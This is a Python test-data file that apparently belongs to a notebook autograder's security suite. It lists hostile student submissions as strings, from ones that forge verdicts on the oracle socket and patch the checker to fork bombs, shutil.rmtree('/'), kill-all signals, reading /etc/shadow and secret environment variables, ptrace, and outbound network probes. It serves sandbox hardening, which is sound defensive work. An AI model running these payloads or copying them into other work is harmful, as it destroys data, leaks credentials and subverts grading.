"""Submissions that attack the grader, as data; `test_hostile.py` grades each of them.

An attack is the text of one answer cell of a solved 01-loss-functions. ``{answer}`` in it
stands for the right answer. What must be out of reach is tried through ``attempt``, which
prints REACHED if it is not.
"""

# ruff: noqa: E501 - code of students keeps its lines.

from dataclasses import dataclass

PRELUDE = """
import ctypes, gc, importlib, json, mmap, os, signal, socket, stat, struct, subprocess, sys
import re, threading, time
def attempt(what, function):
    try:
        seen = function()
    except BaseException as error:
        print("refused", what, type(error).__name__, str(error)[:100])
    else:
        print("REACHED" if seen else "nothing", what, str(seen)[:300])
libc = ctypes.CDLL(None, use_errno=True)
channel = int(os.environ["CS231N_ORACLE_FD"])
def control():
    return next(
        int(fd)
        for fd in os.listdir("/proc/self/fd")
        if os.path.exists("/proc/self/fd/" + fd)
        and stat.S_ISSOCK(os.stat("/proc/self/fd/" + fd).st_mode)
        and int(fd) != channel
    )
def frame(header):
    text = json.dumps(header).encode() if not isinstance(header, bytes) else header
    return struct.pack(">I", len(text)) + text
def said(**fields):
    return frame({"body": {"dict": [list(pair) for pair in fields.items()]}, "arrays": []})
"""

WRONG = "def softmax(scores):\n    return scores\n"
FULL = {
    "svm_loss_naive": 3.0,
    "svm_loss_vectorized": 4.0,
    "softmax": 3.0,
    "softmax_loss_naive": 3.0,
    "softmax_loss_vectorized": 4.0,
    "regularization": 3.0,
}


@dataclass(frozen=True)
class Attack:
    """One hostile answer.

    Attributes
    ----------
    name : str
    group : str
        What it goes for.
    text : str
        The answer cell.
    earned : float
        The points that its exercise deserves.
    exercise : str
    stops : bool
        It may end its own run, and lose the exercises after it.
    timeout : float
        Seconds that a cell may take.
    """

    name: str
    group: str
    text: str
    earned: float
    exercise: str = "softmax"
    stops: bool = False
    timeout: float = 10.0


ATTACKS: list[Attack] = []


def _add(group, attacks, *, prelude=PRELUDE, **options):
    for name, text in attacks.items():
        ATTACKS.append(Attack(name, group, prelude + text, **options))


_add(
    "the client and NumPy",
    {
        "replaces check": "def check(function, exercise=None):\n    return 3.0",
        "prints a score": "print(3)\n3",
        "patches the client's judge": (
            "import cs231n_utils.checks as c\n"
            "c.judge = lambda f, e=None: c.Verdict(e, passed=True, points=3.0)"
        ),
        "swaps the code of check": (
            "check.__code__ = (lambda function, exercise=None: 3.0).__code__"
        ),
        "patches observe to forge a verdict": (
            "import cs231n_utils.checks as c\n"
            "verdict = {'exercise': 'softmax', 'passed': True, 'points': 3.0}\n"
            "c.observe = lambda *a, **k: {'op': 'verdict', 'verdict': verdict}"
        ),
        "makes every verdict pass": (
            "import cs231n_utils.checks as c\n"
            "c.Verdict.passed = property(lambda self: True, lambda self, value: None)"
        ),
        "puts its own client in sys.modules": (
            "import types\n"
            "fake = types.ModuleType('cs231n_utils.checks')\n"
            "fake.check = check = lambda function, exercise=None: 3.0\n"
            "sys.modules['cs231n_utils.checks'] = fake"
        ),
        "patches NumPy's comparisons": (
            "import numpy as np\n"
            "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None"
        ),
        "patches what writes arrays": (
            "import numpy as np\n"
            "np.lib.format.write_array = lambda stream, *a, **k: stream.write(b'right')"
        ),
        "overrides builtins": (
            "import builtins\n"
            "builtins.abs = builtins.max = lambda *a, **k: 0\n"
            "builtins.AssertionError = ZeroDivisionError"
        ),
        "patches json": "json.dumps = lambda *a, **k: '{\"points\": 3}'",
        "input transformer": (
            "get_ipython().input_transformers_post.append(\n"
            "    lambda lines: ['print(3)\\n'] if 'check(' in ''.join(lines) else lines\n)"
        ),
        "AST transformer": (
            "import ast\n"
            "class Pass(ast.NodeTransformer):\n"
            "    def visit_Call(self, node):\n"
            "        return ast.Constant(3.0) if getattr(node.func, 'id', '') == 'check' else node\n"
            "get_ipython().ast_transformers.append(Pass())"
        ),
        "patches the shell": (
            "shell = get_ipython()\nshell.run_cell = shell.run_ast_nodes = lambda *a, **k: print(3)"
        ),
        "patches the kernel": (
            "kernel = getattr(get_ipython(), 'kernel', None)\n"
            "if kernel is not None:\n    kernel.do_execute = lambda *a, **k: {'status': 'ok'}"
        ),
        "takes a reference from the cells before": (
            "attempt('hidden tests', lambda: [c for c in In + list(globals()) if 'assert_' in c])"
        ),
        "shows a score as a result": (
            "from IPython.display import display\n"
            "display({'text/plain': '3', 'text/html': '<b>3 of 3</b>'}, raw=True)\n"
            "sys.displayhook(3.0)"
        ),
        "event handlers": (
            "get_ipython().events.register('pre_run_cell', lambda info: print(3))\n"
            "get_ipython().events.register('post_run_cell', lambda result: print(3))"
        ),
        "magic under the name of check": (
            "get_ipython().set_hook('pre_run_code_hook', lambda *a: print(3))\n"
            "get_ipython().push({'check': lambda *a: 3.0})"
        ),
    },
    earned=0.0,
)
for index, attack in enumerate(ATTACKS):
    ATTACKS[index] = Attack(attack.name, attack.group, WRONG + attack.text, 0.0, stops=True)

_add(
    "values that lie",
    {
        "an array that equals everything": (
            "class Same(np.ndarray):\n"
            "    __eq__ = lambda self, other: True\n"
            "    __array_ufunc__ = lambda self, *a, **k: True\n"
            "    __array_function__ = lambda self, *a, **k: True\n"
            "def softmax(scores):\n    return np.asarray(scores).view(Same)"
        ),
        "a number that equals everything": (
            "class Same(float):\n"
            "    __eq__ = __le__ = __ge__ = lambda self, other: True\n"
            "    __sub__ = __rsub__ = lambda self, other: 0.0\n"
            "    __hash__ = float.__hash__\n"
            "def softmax(scores):\n    return Same(1)"
        ),
        "a lying __class__": (
            "class Same:\n"
            "    __class__ = np.ndarray\n"
            "    dtype, shape, ndim = np.dtype(float), (5,), 1\n"
            "def softmax(scores):\n    return Same()"
        ),
        "a lying __array__": (
            "class Same:\n"
            "    def __array__(self, dtype=None, copy=None):\n        return np.ones(5)\n"
            "def softmax(scores):\n    return Same()"
        ),
        "NaN": "def softmax(scores):\n    return np.full(np.shape(scores), np.nan)",
        "infinite": "def softmax(scores):\n    return np.full(np.shape(scores), np.inf)",
        "huge integer": "def softmax(scores):\n    return 10**5000",
        "objects": "def softmax(scores):\n    return np.array([object()] * 5, dtype=object)",
        "objects that run code when unpickled": (
            "class Evil:\n"
            "    def __reduce__(self):\n        return os._exit, (7,)\n"
            "def softmax(scores):\n    return [Evil(), np.array([Evil()], dtype=object)]"
        ),
        "structured": (
            "def softmax(scores):\n"
            "    return np.zeros(np.shape(scores), dtype=[('a', 'f8'), ('b', 'O')])"
        ),
        "text": "def softmax(scores):\n    return np.full(np.shape(scores), 'right')",
        "long text": "def softmax(scores):\n    return 'right' * 10**7",
        "dates": "def softmax(scores):\n    return np.zeros(np.shape(scores), 'datetime64[s]')",
        "complex": "def softmax(scores):\n    return np.exp(scores) + 1j",
        "booleans": "def softmax(scores):\n    return np.ones(np.shape(scores), bool)",
        "a masked array": ("def softmax(scores):\n    return np.ma.masked_all(np.shape(scores))"),
        "generator": "def softmax(scores):\n    yield from scores",
        "a thousand million entries": "def softmax(scores):\n    return np.zeros(10**9)",
        "entries that take no memory": (
            "def softmax(scores):\n    return np.broadcast_to(1.0, (10**6, 10**6))"
        ),
        "no entries, huge shape": "def softmax(scores):\n    return np.zeros((10**9, 0))",
        "sixty-four dimensions": "def softmax(scores):\n    return np.zeros((1,) * 32)",
        "nested deeply": (
            "def softmax(scores):\n"
            "    value = []\n"
            "    for _ in range(10**5):\n        value = [value]\n"
            "    return value"
        ),
        "holds itself": (
            "def softmax(scores):\n    value = [1.0]\n    value[0] = value\n    return value"
        ),
        "ten million items": "def softmax(scores):\n    return [0.0] * 10**7",
        "a thousand arrays": "def softmax(scores):\n    return [scores] * 1000",
        "a dict with odd keys": (
            "def softmax(scores):\n    return {None: 1, (1, 2): np.ones(3), float('nan'): {}}"
        ),
        "a set whose items fail": (
            "class Odd:\n"
            "    def __repr__(self):\n        raise ValueError('no repr')\n"
            "def softmax(scores):\n    return {Odd(), Odd()}"
        ),
        "a type with a lying name": (
            "Odd = type('<script>alert(1)</script>' * 1000, (), {})\n"
            "def softmax(scores):\n    return Odd()"
        ),
        "an exception that fails": (
            "class Odd(Exception):\n"
            "    def __str__(self):\n        raise SystemExit\n"
            "def softmax(scores):\n    raise Odd"
        ),
        "an exception of a megabyte": (
            "def softmax(scores):\n    raise ValueError('<script>' * 10**6)"
        ),
        "lone surrogates": "def softmax(scores):\n    raise ValueError('\\ud800')",
        "the function itself": "def softmax(scores):\n    return softmax",
        "not a function": "softmax = 3.0",
        "not callable twice": (
            "class Once:\n"
            "    def __call__(self, scores):\n"
            "        Once.__call__ = None\n        return np.exp(scores)\n"
            "softmax = Once()"
        ),
        "hard-coded numbers": (
            "def softmax(scores):\n"
            "    return np.array([0.0, 0.0, 1.0]) if len(scores) == 3 else np.ones(len(scores))"
        ),
    },
    earned=0.0,
)

_add(
    "expected values in this process",
    {
        "frames": (
            "def softmax(scores):\n"
            "    frame, found = sys._getframe(), []\n"
            "    while frame:\n"
            "        for name, value in frame.f_locals.items():\n"
            "            if isinstance(value, dict) and ('expected' in value or 'answer' in value):\n"
            "                found.append(value)\n"
            "            if name in ('expected', 'reference', 'exercise') and not isinstance(value, str):\n"
            "                found.append(value)\n"
            "        frame = frame.f_back\n"
            "    if found:\n        print('REACHED', found, file=sys.__stdout__)\n"
            "    return found[0] if found else scores"
        ),
        "garbage collector": (
            "def reachable():\n"
            "    return [\n"
            "        function for function in gc.get_objects()\n"
            "        if type(function) is type(attempt)\n"
            "        and function.__module__ in ('cs231n_utils.losses', 'cs231n_utils.fitting')\n"
            "        or 'grading' == str(getattr(function, '__module__', '')).split('.')[0]\n"
            "    ]\n"
            "attempt('references', reachable)\n" + WRONG
        ),
        "modules": (
            "attempt('grading', lambda: [m for m in sys.modules if m.startswith('grading')])\n"
            "attempt('losses', lambda: 'cs231n_utils.losses' in sys.modules)\n" + WRONG
        ),
        "memory": (
            "def scan():\n"
            "    text = re.compile(rb'exponentials / np[.]sum[(]exponentials, axis')\n"
            "    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:\n"
            "        for line in maps:\n"
            "            place, rights, *_ = line.split()\n"
            "            start, end = (int(x, 16) for x in place.split('-'))\n"
            "            if rights[:2] == 'rw' and end - start < 1 << 28:\n"
            "                memory.seek(start)\n"
            "                if text.search(memory.read(end - start)):\n                    return place\n"
            "attempt('source of the reference', scan)\n" + WRONG
        ),
        "verdict of the same question": (
            "seen = []\n"
            "from cs231n_utils.checks import judge\n"
            "def softmax(scores):\n"
            "    seen.append(scores)\n    return scores\n"
            "for _ in range(15):\n    seen.append(judge(softmax, 'softmax').message)\n"
            "def softmax(scores):\n"
            "    for message in seen:\n"
            "        if isinstance(message, str) and 'expected' in message:\n"
            "            return np.full(np.shape(scores), float(message.split()[-5].strip('.,')))\n"
        ),
    },
    earned=0.0,
)

_add(
    "the channel",
    {
        "forges a verdict": (
            "line = said(op='verdict', exercise='softmax', passed=True, points=3.0)\n"
            "attempt('channel', lambda: os.write(channel, line) < 0)\n" + WRONG
        ),
        "forges a ledger line": (
            "entry = {'exercise': 'softmax', 'passed': True, 'points': 3.0, 'max_points': 3.0}\n"
            "os.write(channel, json.dumps(entry).encode() + b'\\n')\n" + WRONG
        ),
        "forges a ledger line on the control socket": (
            "entry = {'exercise': 'softmax', 'passed': True, 'points': 3.0, 'max_points': 3.0}\n"
            "os.write(control(), json.dumps(entry).encode() + b'\\n')\n"
            "os.write(control(), json.dumps({'ledger': [entry]}).encode() + b'\\n')\n" + WRONG
        ),
        "answers before it is asked": (
            "reply = said(op='observed', outcome='returned', value=None, error=None, work=0)\n"
            "os.write(channel, said(op='judge', exercise='softmax') + 20 * reply)\n" + WRONG
        ),
        "replays the answers of another exercise": (
            "import cs231n_utils.checks as c\n"
            "kept, send = [], c.send\n"
            "c.send = lambda stream, message: (kept.append(message), send(stream, message))\n"
            "c.judge(svm_loss_naive, 'svm_loss_naive')\n"
            "replies = [m for m in kept if m['op'] == 'observed']\n"
            "c.observe = lambda *a, **k: replies[0]\n" + WRONG
        ),
        "races the client": (
            "def race():\n"
            "    while True:\n"
            "        try:\n            os.read(channel, 100)\n"
            "        except OSError:\n            return\n"
            "threading.Thread(target=race, daemon=True).start()\n" + WRONG
        ),
        "names an unknown exercise of a megabyte": (
            "from cs231n_utils.checks import judge\njudge(len, exercise='x' * 10**6)\n" + WRONG
        ),
        "asks about another assignment": (
            "from cs231n_utils.checks import judge\n"
            "attempt('other', lambda: judge(len, exercise='random_search').max_points)\n" + WRONG
        ),
        "asks four hundred times": (
            "from cs231n_utils.checks import judge\n"
            "for _ in range(400):\n"
            "    judge(len, exercise='x' * 1000)\n"
            "    judge(len, exercise='softmax')\n" + WRONG
        ),
        "shows another function for this exercise": (
            "from cs231n_utils.checks import judge\n"
            "judge(svm_loss_naive, exercise='softmax')\n" + WRONG
        ),
        "a header of four gigabytes": (
            "os.write(channel, struct.pack('>I', 2**32 - 1) + b'x' * 1000)\n" + WRONG
        ),
        "JSON nested deeply": ("os.write(channel, frame(b'[' * 10**5))\n" + WRONG),
        "arrays of negative size": (
            "os.write(channel, frame({'body': {'dict': []}, 'arrays': [-1, 2**70]}))\n" + WRONG
        ),
        "numbers of a million digits": (
            "os.write(channel, frame(b'{\"arrays\": [' + b'9' * 10**5 + b']}'))\n" + WRONG
        ),
        "text of a number that is too large": (
            "request = {'dict': [['op', {'float': '0x1p' + '9' * 1000}]]}\n"
            "os.write(channel, frame({'body': request, 'arrays': []}))\n" + WRONG
        ),
        "an npy header that lies": (
            "text = b\"{'descr': '|O', 'fortran_order': False, 'shape': (9999999999,), }\"\n"
            "array = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(text)) + text\n"
            "os.write(channel, frame({'body': {'dict': []}, 'arrays': [len(array)]}) + array)\n"
            + WRONG
        ),
        "an npy header nested deeply": (
            "text = b'(' * 9000\n"
            "array = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(text)) + text\n"
            "os.write(channel, frame({'body': {'dict': []}, 'arrays': [len(array)]}) + array)\n"
            + WRONG
        ),
        "asks for a recipe of the oracle": (
            "request = {'recipe': 'rng', 'with': {'dict': [['seed', 1]]}}\n"
            "os.write(channel, frame({'body': request, 'arrays': []}))\n" + WRONG
        ),
        "hangs up": "os.close(channel)\n" + WRONG,
        "shuts the channel down": (
            "socket.socket(fileno=os.dup(channel)).shutdown(socket.SHUT_RDWR)\n" + WRONG
        ),
        "sends file descriptors": (
            "pair = socket.socket(fileno=os.dup(channel))\n"
            "for _ in range(20):\n"
            "    socket.send_fds(pair, [b'x'], [0] * 100)\n" + WRONG
        ),
        "its own oracle": (
            "ours, theirs = socket.socketpair()\n"
            "def oracle():\n"
            "    verdict = [['exercise', 'softmax'], ['passed', True], ['points', 3]]\n"
            "    theirs.recv(10**5)\n"
            "    theirs.sendall(said(op='verdict', verdict={'dict': verdict}))\n"
            "threading.Thread(target=oracle, daemon=True).start()\n"
            "import cs231n_utils.checks as c\n"
            "c.OracleClient._current = None\n"
            "os.environ['CS231N_ORACLE_FD'] = str(ours.fileno())\n" + WRONG
        ),
        "no oracle at all": (
            "import cs231n_utils.checks as c\n"
            "c.OracleClient._current = None\n"
            "del os.environ['CS231N_ORACLE_FD']\n" + WRONG
        ),
    },
    earned=0.0,
    stops=True,
    timeout=4.0,
)

ASK = """
def ask(**request):
    stream = socket.socket(fileno=os.dup(channel))
    stream.sendall(said(**request))
    return stream.recv(1 << 16)
"""

_add(
    "what self-study gives",
    {
        "asks the oracle for the solution": (
            ASK + "attempt('solution', lambda: ask(op='solution', exercise='softmax'))\n" + WRONG
        ),
        "asks the oracle for hints": (
            ASK + "attempt('hints', lambda: ask(op='hints', exercise='softmax'))\n" + WRONG
        ),
        "asks the oracle for the course": (
            ASK + "attempt('course', lambda: ask(op='course'))\n" + WRONG
        ),
        "takes the channel for that of a local oracle": (
            "import cs231n_utils.checks as c, cs231n_utils.study as s\n"
            "c.OracleClient.current().local = True\n"
            "attempt('solution', lambda: s._ask({'op': 'solution', 'exercise': 'softmax'}))\n"
            + WRONG
        ),
        "starts a local oracle": (
            "import cs231n_utils.checks as c, cs231n_utils.study as s\n"
            "c.OracleClient._current = None\n"
            "del os.environ['CS231N_ORACLE_FD']\n"
            "attempt('solution', lambda: s._ask({'op': 'solution', 'exercise': 'softmax'}))\n"
            + WRONG
        ),
    },
    earned=0.0,
    stops=True,
)

_add(
    "what self-study gives, asked for as there",
    {
        "calls hint, solution and progress": (
            "from cs231n_utils import hint, progress, solution\n"
            "hint('softmax')\nsolution('softmax', anyway=True)\nprogress()\n" + WRONG
        ),
        "looks for the progress": (
            "from cs231n_utils import progress_file\n"
            "attempt('progress', lambda: progress_file.read().exercises)\n" + WRONG
        ),
    },
    earned=0.0,
)

_add(
    "the control socket",
    {
        "closes it and lingers": """
os.close(control())
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
        "forges starts": """
while True:
    try:
        os.write(control(), b'{"start": 3}\\n"start"\\n')
        time.sleep(0.2)
    except BaseException:
        pass
""",
        "forges ends": """
os.write(control(), b'{"end": 1e999, "outputs": []}\\n{"end": 99999, "outputs": []}\\n')
os._exit(0)
""",
        "forges many outputs": """
one = '{"output_type": "stream", "name": "stdout", "text": ""}'
os.write(control(), ('{"end": 5, "outputs": [' + ", ".join([one] * 100_000) + "]}").encode())
os._exit(0)
""",
        "sends one long line": """
line = b'{"start": [' + b"{}," * 2_500_000
while line:
    line = line[os.write(control(), line):]
time.sleep(60)
""",
        "sends brackets": """
line = b"[" * 10**6 + b"\\n" + b'{"start": ' + b"9" * 10**5 + b"}\\n"
while line:
    line = line[os.write(control(), line):]
os._exit(0)
""",
        "never reads": """
from cs231n_utils.checks import judge
for _ in range(10**4):
    os.write(channel, said(op="judge", exercise="softmax"))
""",
        "drips its replies": """
while True:
    try:
        os.write(channel, b"\\0")
        time.sleep(0.05)
    except BaseException:
        pass
""",
    },
    earned=0.0,
    stops=True,
    timeout=3.0,
)

_add(
    "threads, hooks and signals",
    {
        "a thread that patches on": (
            "import cs231n_utils.checks as c\n"
            "def patch():\n"
            "    while True:\n"
            "        c.observe = lambda *a, **k: {}\n        time.sleep(0.01)\n"
            "threading.Thread(target=patch).start()\n" + WRONG
        ),
        "atexit": (
            "import atexit\n"
            "atexit.register(lambda: os.write(channel, b'3'))\n"
            "atexit.register(time.sleep, 60)\n" + WRONG
        ),
        "__del__": (
            "class Last:\n    def __del__(self):\n        time.sleep(60)\nlast = Last()\n" + WRONG
        ),
        "deaf to signals": (
            "for number in range(1, 65):\n"
            "    try:\n        signal.signal(number, signal.SIG_IGN)\n"
            "    except (OSError, ValueError):\n        pass\n"
            "def softmax(scores):\n    while True:\n        pass"
        ),
        "catches every interrupt": (
            "def softmax(scores):\n    while True:\n        try:\n            while True:\n"
            "                pass\n        except BaseException:\n            pass"
        ),
        "an alarm that raises": (
            "def ring(*a):\n    raise SystemExit\n"
            "signal.signal(signal.SIGALRM, ring)\n"
            "signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)\n" + WRONG
        ),
        "settrace on everything": (
            "def trace(frame, event, argument):\n"
            "    frame.f_locals['passed'] = True\n    return trace\n"
            "sys.settrace(trace)\nthreading.settrace(trace)\n" + WRONG
        ),
        "an audit hook": (
            "def refuse(event, arguments):\n"
            "    if event in ('open', 'import', 'exec', 'compile'):\n        raise OSError(event)\n"
            "sys.addaudithook(refuse)\n" + WRONG
        ),
        "no recursion left": "sys.setrecursionlimit(120)\n" + WRONG,
        "endless recursion": (
            "sys.setrecursionlimit(10**9)\ndef softmax(scores):\n    return softmax(scores)"
        ),
        "endless loop": "def softmax(scores):\n    while True:\n        pass",
        "sleeps": "def softmax(scores):\n    time.sleep(10**6)",
        "holds the interpreter": "def softmax(scores):\n    return 10**10**9",
        "stops itself": "os.kill(os.getpid(), signal.SIGSTOP)\n" + WRONG,
    },
    earned=0.0,
    stops=True,
    timeout=3.0,
)

_add(
    "floods",
    {
        "prints twenty megabytes": "{answer}\nprint('x' * 2 * 10**7)\nprint('y', file=sys.stderr)",
        "prints a million lines": "{answer}\nfor i in range(10**6):\n    print(i)",
        "writes past Python": (
            "{answer}\nfor number in (1, 2):\n    os.write(number, b'x' * 10**7)\n"
            "sys.__stdout__.write('x' * 10**6)\n"
            "subprocess.run(['sh', '-c', 'head -c 10000000 /dev/zero'])"
        ),
        "shows ten thousand things": (
            "{answer}\nfrom IPython.display import display\nfor i in range(10**4):\n    display(i)"
        ),
        "prints inside the function": (
            "{answer}\n_right = softmax\n"
            "def softmax(scores):\n    print('x' * 10**6)\n    return _right(scores)"
        ),
        "script in its output": (
            "{answer}\nfrom IPython.display import HTML, display\n"
            "display(HTML('<script>x</script>'))\ndisplay({'image/png': '<script>x'}, raw=True)"
        ),
        "warns ten thousand times": (
            "{answer}\nimport warnings\nwarnings.simplefilter('always')\n"
            "for i in range(10**4):\n    warnings.warn(str(i))"
        ),
    },
    earned=3.0,
)

_add(
    "ends and kills",
    {
        "os._exit(0)": "os._exit(0)",
        "os._exit(1)": "os._exit(1)",
        "kills its parent": "os.kill(os.getppid(), signal.SIGKILL)\nos._exit(0)",
        "kills everyone": "os.kill(-1, signal.SIGKILL)\nos._exit(0)",
        "kills its group": "os.kill(0, signal.SIGKILL)\nos.killpg(0, signal.SIGKILL)\nos._exit(0)",
        "segmentation fault": "ctypes.string_at(0)",
        "abort": "os.abort()",
        "becomes another program": "os.execv('/bin/sleep', ['sleep', '3600'])",
        "exits": "import sys\nsys.exit(0)",
        "interrupts itself": "raise KeyboardInterrupt",
        "raises what is not an exception": "raise 3",
        "exits in the function": "def softmax(scores):\n    os._exit(0)",
        "raises SystemExit in the function": "def softmax(scores):\n    raise SystemExit(0)",
    },
    earned=0.0,
    stops=True,
    timeout=3.0,
)

_add(
    "other processes",
    {
        "walks /proc": (
            "{answer}\n"
            "pids = [int(name) for name in os.listdir('/proc') if name.isdigit()]\n"
            "attempt('processes', lambda: [pid for pid in pids if pid != os.getpid()])\n"
            "attempt('parent', lambda: os.getppid())\n"
            "attempt('kcore', lambda: open('/proc/kcore', 'rb').read(1))\n"
            "attempt('sysrq', lambda: open('/proc/sysrq-trigger', 'wb', 0).write(b'c'))\n"
            "attempt('kmsg', lambda: open('/dev/kmsg').read(1))\n"
            "attempt('disks', lambda: [d for d in os.listdir('/dev') if d.startswith(('sd', 'vd'))])"
        ),
        "ptrace": (
            "{answer}\n"
            "for pid in (0, 1, 2, os.getppid(), 100):\n"
            "    attempt('attach', lambda: libc.ptrace(16, pid, 0, 0) == 0)\n"
            "attempt('traceme', lambda: libc.ptrace(0, 0, 0, 0) == 0)"
        ),
        "reads their memory": (
            "{answer}\n"
            "buffer = ctypes.create_string_buffer(8)\n"
            "vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)\n"
            "for pid in (2, 3, 4, 100, 1000):\n"
            "    attempt('memory', lambda: libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0)"
        ),
        "takes their descriptors": (
            "{answer}\n"
            "attempt('pidfd_getfd', lambda: libc.syscall(438, os.pidfd_open(1), 0, 0) >= 0)\n"
            "attempt('kcmp', lambda: libc.syscall(312, 1, 1, 0, 0, 0) >= 0)"
        ),
        "gets rights": (
            "{answer}\n"
            "attempt('setuid', lambda: os.setuid(0) is None)\n"
            "attempt('user namespace', lambda: libc.unshare(0x10000000) == 0)\n"
            "attempt('mount', lambda: libc.mount(b'x', b'/scratch', b'tmpfs', 0, None) == 0)\n"
            "attempt('umount', lambda: libc.umount2(b'/scratch', 2) == 0)\n"
            "attempt('chroot', lambda: os.chroot('/scratch') is None)\n"
            "attempt('setns', lambda: libc.setns(os.open('/proc/1/ns/net', 0), 0) == 0)\n"
            "attempt('clock', lambda: time.clock_settime(time.CLOCK_REALTIME, 0) is None)\n"
            "attempt('hostname', lambda: socket.sethostname('x') is None)\n"
            "attempt('su', lambda: subprocess.run(['su', '-c', 'id'], timeout=5).returncode == 0)\n"
            "attempt('bpf', lambda: libc.syscall(321, 0, 0, 0) >= 0)\n"
            "attempt('io_uring', lambda: libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0)\n"
            "attempt('userfaultfd', lambda: libc.syscall(323, 1) >= 0)"
        ),
        "raises its limits": (
            "{answer}\nimport resource\n"
            "for name in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
            "    attempt('limit', lambda: resource.setrlimit(name, (-1, -1)) is None)\n"
            "attempt('nice', lambda: os.nice(-5) < 0)\n"
            "attempt('oom', lambda: open('/proc/self/oom_score_adj', 'wb', 0).write(b'-1000'))"
        ),
    },
    earned=3.0,
)

_add(
    "files",
    {
        "looks for the course": (
            "{answer}\n"
            "wanted = {'exercises', 'gradebook.db', 'submitted', 'autograded', 'ledger', '.ssh'}\n"
            "wanted |= {'loss_functions.py', 'oracle.py', '.git', 'notebooks', 'gradebook'}\n"
            "def found():\n"
            "    return [\n"
            "        os.path.join(folder, name)\n"
            "        for folder, folders, files in os.walk('/')\n"
            "        if not folder.startswith(('/proc', '/usr')) and 'site-packages' not in folder\n"
            "        for name in folders + files if name in wanted\n"
            "    ]\n"
            "attempt('course', found)"
        ),
        "reads homes and accounts": (
            "{answer}\n"
            "for path in ('/etc/passwd', '/etc/shadow', '/etc/hostname', '/var', '/run', '/srv'):\n"
            "    attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read())\n"
            "python = (sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(check.__code__.co_filename)))\n"
            "def homes():\n"
            "    for home in ('/root', '/home'):\n"
            "        for folder, _, names in os.walk(home):\n"
            "            if not folder.startswith(python):\n"
            "                yield from names\n"
            "attempt('homes', lambda: list(homes()))\n"
            "attempt('home', lambda: os.listdir(os.path.expanduser('~')))"
        ),
        "reads the environment": (
            "{answer}\n"
            "words = ('TOKEN', 'SECRET', 'PASS', 'KEY', 'PGHOST', 'DATABASE', 'AWS', 'SSH')\n"
            "attempt('secrets', lambda: [n for n in os.environ if any(w in n for w in words)])\n"
            "text = open('/proc/self/environ').read()\n"
            "attempt('first environment', lambda: [w for w in words if w in text])"
        ),
        "writes everywhere": (
            "{answer}\n"
            "def written():\n"
            "    places = []\n"
            "    for folder, folders, _ in os.walk('/'):\n"
            "        folders[:] = [f for f in folders if folder.count('/') < 4]\n"
            "        if folder.startswith(('/proc', '/scratch', '/dev/shm', '/dev/pts', '/dev/fd')):\n"
            "            continue\n"
            "        try:\n            open(os.path.join(folder, 'probe'), 'w').close()\n"
            "            places.append(folder)\n"
            "        except OSError:\n            pass\n"
            "    return places\n"
            "attempt('written', written)\n"
            "import cs231n_utils\n"
            "attempt('package', lambda: open(cs231n_utils.__file__, 'a'))"
        ),
        "deletes everything": (
            "{answer}\nimport shutil\nshutil.rmtree('/', ignore_errors=True)\n"
            "attempt('gone', lambda: not os.path.exists('/usr/bin'))"
        ),
        "writes to the kernel": (
            "{answer}\n"
            "for folder, _, names in os.walk('/proc/sys'):\n"
            "    for name in names:\n"
            "        path = os.path.join(folder, name)\n"
            "        try:\n            open(path, 'wb', 0).write(b'1')\n"
            "        except (OSError, ValueError):\n            continue\n"
            "        if '/net/' not in path:\n            print('REACHED', path)"
        ),
    },
    earned=3.0,
    timeout=30.0,
)

_add(
    "the network",
    {
        "TCP": (
            "{answer}\n"
            "attempt('out', lambda: socket.create_connection(('1.1.1.1', 53), 1))\n"
            "attempt('grader', lambda: socket.create_connection(('127.0.0.1', {port}), 1))"
        ),
        "UDP": (
            "{answer}\n"
            "udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "attempt('out', lambda: udp.sendto(b'x', ('1.1.1.1', 53)))\n"
            "attempt('grader', lambda: udp.sendto(b'x', ('127.0.0.1', {port})))"
        ),
        "names": (
            "{answer}\n"
            "attempt('DNS', lambda: socket.getaddrinfo('example.org', 80))\n"
            "import urllib.request\n"
            "attempt('HTTP', lambda: urllib.request.urlopen('http://example.org', timeout=2))"
        ),
        "abstract sockets": (
            "{answer}\n"
            "unix = socket.socket(socket.AF_UNIX)\n"
            "attempt('grader', lambda: unix.connect(chr(0) + '{abstract}') is None)\n"
            "attempt('listed', lambda: '{abstract}' in open('/proc/net/unix').read())"
        ),
        "raw packets and interfaces": (
            "{answer}\n"
            "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
            "attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))\n"
            "attempt('interfaces', lambda: [i for i in socket.if_nameindex() if i[1] != 'lo'])"
        ),
    },
    earned=3.0,
)

_add(
    "memory, disk and processes",
    {
        "fork bomb": "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "three hundred forks": (
            "for _ in range(300):\n    if os.fork() == 0:\n        time.sleep(100)"
        ),
        "a thousand threads": (
            "for _ in range(1000):\n    threading.Thread(target=time.sleep, args=(100,)).start()"
        ),
        "memory of 4 GB": "hoard = [bytearray(1 << 26) for _ in range(64)]",
        "memory of 4 GB in children": (
            "for _ in range(6):\n"
            "    if os.fork() == 0:\n"
            "        hoard = bytearray(b'x' * (700 << 20))\n        time.sleep(100)\n"
            "time.sleep(100)"
        ),
        "shared memory of 4 GB": (
            "for _ in range(6):\n"
            "    if os.fork() == 0:\n"
            "        hoard = mmap.mmap(-1, 700 << 20)\n"
            "        for _ in range(700):\n            hoard.write(b'x' * (1 << 20))\n"
            "        time.sleep(100)\n"
            "time.sleep(100)"
        ),
        "memory without address": (
            "files = [os.memfd_create(str(i)) for i in range(40)]\n"
            "for file in files:\n"
            "    for _ in range(60):\n        os.write(file, b'x' * (1 << 20))\n"
            "print('REACHED', len(files) * 60, 'MB')"
        ),
        "System V memory": (
